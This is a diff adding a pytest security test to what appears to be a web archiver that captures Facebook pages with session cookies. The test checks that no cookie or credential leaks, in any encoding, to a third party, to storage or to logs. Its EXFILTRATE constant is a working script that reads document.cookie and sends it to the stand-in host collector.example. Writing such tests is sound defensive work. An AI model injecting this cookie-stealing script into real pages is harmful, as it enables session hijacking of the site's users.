@@ -136,3 +136,98 @@ def test_no_session_value_reaches_storage_or_logs(
     wheres = {item["where"] for item in provenance["platform"]["redactions"]}
     assert {"request headers", "response head", "response body"} <= wheres
     assert provenance["platform"]["session"]["cookies"] == ["c_user", "xs", "datr"]
+
+
+EXFILTRATE = """<script>
+  const jar = document.cookie;
+  document.body.insertAdjacentHTML('beforeend', '<p>jar: ' + jar + '</p>');
+  new Image().src = 'https://collector.example/steal?c=' + encodeURIComponent(jar);
+  fetch('https://collector.example/b64?d=' + btoa(jar));
+</script></body>"""
+
+
+def _every_form(value: str) -> list[bytes]:
+    """The value as a leak would carry it: plain, percent-encoded, base64 (the inner
+    characters, whatever the alignment)."""
+    import base64
+    from urllib.parse import quote
+
+    forms = {value.encode(), quote(value, safe="").encode()}
+    for shift in range(3):
+        encoded = base64.b64encode(b"\0" * shift + value.encode())
+        forms.add(encoded[4:-4])
+    return sorted(forms)
+
+
+def test_exfiltrating_page_leaks_no_secret_anywhere(
+    simweb: SimulatedWeb,
+    make_settings: Callable[..., Settings],
+    clock: FixedClock,
+    tmp_path: Path,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    """Hardening, point 1: session cookies that are not HttpOnly (as a browser extension
+    exports them), a Facebook page that reads document.cookie and sends it to a third
+    party, and a page elsewhere that happens to quote the SMTP password and the webhook
+    token. Nothing reaches the third party; no file under storage/ (WARC raw and
+    decompressed, database), and no log line, holds any secret in any form."""
+    assert POST.url is not None
+    smtp_password = secrets.token_urlsafe(16)
+    webhook_token = secrets.token_hex(16)
+    body = POST.body().replace(b"</body>", EXFILTRATE.encode(), 1)
+    simweb.page(POST.url, body)
+    for path in ("/steal", "/b64"):
+        simweb.page(f"https://collector.example{path}", "ok")
+    quoting = f"<title>Leak</title><p>pw {smtp_password} and token={webhook_token}</p>"
+    simweb.page("https://news.example/leak.html", quoting)
+    lines = ["# Netscape HTTP Cookie File"]
+    for name, value in (("c_user", C_USER), ("xs", XS), ("datr", DATR)):
+        lines.append(f".facebook.com\tTRUE\t/\tTRUE\t0\t{name}\t{value}")
+    session_file = tmp_path / "cookies.txt"
+    session_file.write_text("\n".join(lines) + "\n", "utf-8")
+    settings = make_settings(
+        network__proxy=simweb.proxy_url,
+        capture__extra_ca_file=str(simweb.ca_pem_path),
+        capture__per_host_interval="0",
+        capture__page_budget="25",
+        capture__max_resources="60",
+        platforms__facebook_session=str(session_file),
+        notify__smtp_password=smtp_password,
+        notify__webhook_url=f"https://hooks.example/notify?token={webhook_token}",
+    )
+    report = tmp_path / "report.txt"
+    report.write_text(
+        f"Photos[1] and a note[2].\n\n[1]{POST.url}\n[2]https://news.example/leak.html\n", "utf-8"
+    )
+    caplog.set_level(logging.DEBUG)
+    with Archive.open(settings, clock=clock) as archive:
+        archive.add(str(report))
+        outcomes = archive.capture()
+        assert [o.error for o in outcomes] == [None, None]
+        logging.getLogger("test").info(
+            "webhook token %s, password %s", webhook_token, smtp_password
+        )
+
+    # The page ran its script, and the collector got no cookie.
+    collected = [(url, h) for _, url, h in simweb.requests if "collector.example" in url]
+    assert collected
+    session_values = [XS, C_USER, DATR]
+    assert not [
+        (url, form)
+        for url, headers in collected
+        for value in session_values
+        for form in _every_form(value)
+        if form.decode() in url or form.decode() in str(headers)
+    ]
+    every_secret = [*session_values, smtp_password, webhook_token]
+    files = _all_bytes(settings.storage.root)
+    leaks = [
+        (str(p), form)
+        for p, data in files
+        for value in every_secret
+        for form in _every_form(value)
+        if form in data
+    ]
+    assert leaks == []
+    logged = caplog.text.encode()
+    assert not [form for value in every_secret for form in _every_form(value) if form in logged]
